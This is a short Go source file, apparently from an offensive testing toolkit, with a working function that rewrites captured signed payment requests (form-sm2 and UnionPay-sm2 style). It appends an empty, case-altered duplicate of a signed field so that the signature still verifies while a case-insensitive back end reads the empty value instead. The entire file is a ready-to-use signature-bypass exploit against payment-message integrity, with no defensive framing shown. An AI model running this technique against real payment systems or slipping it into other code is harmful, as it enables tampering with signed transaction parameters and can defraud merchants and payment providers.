package attack

import (
	"bytes"
	"strings"
)

// CaseShadow is the case-folding rewrite against form-sm2 and unionpay-sm2 captures: fields with
// an empty value are outside the signed string, so the attacker appends, after every signed
// field, an empty field whose name differs from field only by letter case ("Notify_url" for
// "notify_url"). The signature still verifies; a back end that binds names case-insensitively
// (Go's encoding/json, ASP.NET model binding) reads the last one, the empty one, in place of the
// signed value. body is the captured JSON object or form; it returns the rewritten body.
func CaseShadow(body []byte, field string, isJSON bool) []byte {
	shadow := strings.ToUpper(field[:1]) + field[1:]
	if shadow == field {
		shadow = strings.ToLower(field[:1]) + field[1:]
	}
	if !isJSON {
		return append(append(bytes.Clone(body), '&'), shadow+"="...)
	}
	end := bytes.LastIndexByte(body, '}')
	if end < 0 {
		return body
	}
	out := append(bytes.Clone(body[:end]), `,"`+shadow+`":""`...)
	return append(out, body[end:]...)
}
